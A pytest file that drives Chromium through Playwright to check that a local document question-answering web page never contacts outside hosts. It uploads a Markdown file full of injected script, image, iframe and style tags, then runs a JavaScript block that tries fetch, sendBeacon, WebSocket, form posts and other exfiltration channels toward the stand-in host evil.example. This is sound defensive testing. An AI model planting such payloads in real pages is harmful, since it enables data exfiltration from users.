"""A browser with the page open speaks to no other machine, whatever a script on it tries."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from page_driver import FILES
from page_server import Page, starting

CHROMIUM = Path("/usr/bin/chromium")
playwright = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="there is no Chromium here")

MILLISECONDS = 60_000  # that the page may take to show something
#: A document that wants to be fetched from, linked, drawn and styled.
HOSTILE = """# Отпуск ![x](http://evil.example/a.png) <img src="http://evil.example/b.png">

<script src="http://evil.example/c.js"></script> <style>@import url(http://evil.example/d.css)</style>
<iframe src="http://evil.example/e"></iframe> [link](http://evil.example/f) http://evil.example/g
:material/home: :smile: 😀 $\\\\includegraphics{http://evil.example/h}$

Отпуск переносится на четырнадцать дней ![y](http://evil.example/i.png).
"""
#: What a script could try if one ever got onto the page; each must come to nothing.
TRIES = """async () => {
  const out = 'http://evil.example/';
  const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
  add('img', {src: out + 1});
  add('script', {src: out + 2});
  add('link', {rel: 'stylesheet', href: out + 3});
  add('link', {rel: 'prefetch', href: out + 4});
  add('iframe', {src: out + 5});
  add('object', {data: out + 6});
  add('video', {src: out + 7});
  add('style', {textContent: `@import "${out}8"; body { background: url(${out}9) }
    @font-face { font-family: F; src: url(${out}10) } body { font-family: F }`});
  navigator.sendBeacon(out + 11, 'x');
  const ended = [];
  ended.push(await fetch(out + 12).then(() => 'sent', () => 'held'));
  ended.push(await new Promise(end => {
    const socket = new WebSocket('ws://evil.example/13');
    socket.onopen = () => end('sent');
    socket.onerror = () => end('held');
  }));
  new EventSource(out + 14);
  try { ended.push(eval("'sent'")); } catch { ended.push('held'); }
  const form = Object.assign(document.createElement('form'), {action: out + 15, method: 'post'});
  document.body.append(form);
  form.submit();
  await fetch('./_stcore/health');  // by then all that was begun before has been sent or held
  return ended;
}"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[bytes]]]:
    """A port that all names of other machines lead to, and what came there."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    link, _ = server.accept()
                except OSError:
                    return
                with link:
                    link.settimeout(5)
                    heard.append(link.recv(2000))

        threading.Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1], heard


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    with starting(tmp_path_factory.mktemp("page")) as start:
        yield start("--no-browser", RAG_WORKERS="1")


@pytest.fixture
def chromium(elsewhere: tuple[int, list[bytes]]) -> Iterator[Any]:
    """A browser that takes every name but localhost for the port that listens."""
    rules = f"MAP * 127.0.0.1:{elsewhere[0]}, EXCLUDE localhost"
    arguments = ["--no-sandbox", f"--host-resolver-rules={rules}"]
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=arguments)
        yield browser
        browser.close()


def test_the_names_of_other_machines_lead_to_where_it_is_heard(
    chromium: Any, elsewhere: tuple[int, list[bytes]]
) -> None:
    visit = chromium.new_page()
    visit.goto("about:blank")
    with pytest.raises(playwright.Error):
        visit.goto("http://evil.example/0")
    assert any(b"GET /0 " in heard for heard in elsewhere[1])


def test_no_request_leaves_the_machine(
    page: Page, chromium: Any, elsewhere: tuple[int, list[bytes]]
) -> None:
    base = page.address.geturl()
    visit = chromium.new_page(locale="ru-RU")
    visit.set_default_timeout(MILLISECONDS)
    faults: list[str] = []
    visit.on("console", lambda said: faults.append(said.text) if said.type == "error" else None)
    visit.on("pageerror", lambda error: faults.append(str(error)))
    visit.goto(base)
    visit.wait_for_selector("[data-testid=stFileUploader]")
    files = {**FILES, "отпуск.md": HOSTILE.encode()}
    visit.set_input_files(
        "input[type=file]",
        [{"name": n, "mimeType": "text/plain", "buffer": data} for n, data in files.items()],
    )
    visit.get_by_text("добавлен").nth(len(files) - 1).wait_for()
    question = visit.locator("textarea:enabled").first
    question.fill("На сколько дней переносится отпуск?")
    question.press("Enter")
    visit.get_by_text("четырнадцать").first.wait_for()
    for tab in visit.get_by_role("tab").all():
        tab.click()
        visit.wait_for_selector("[data-test-script-state=notRunning]")
    assert [fault for fault in faults if "Content Security Policy" in fault] == []
    assert [heard for heard in elsewhere[1] if b"evil.example" in heard] == []
    assert visit.evaluate(TRIES) == ["held"] * 3
    assert [heard for heard in elsewhere[1] if b"evil.example" in heard] == []
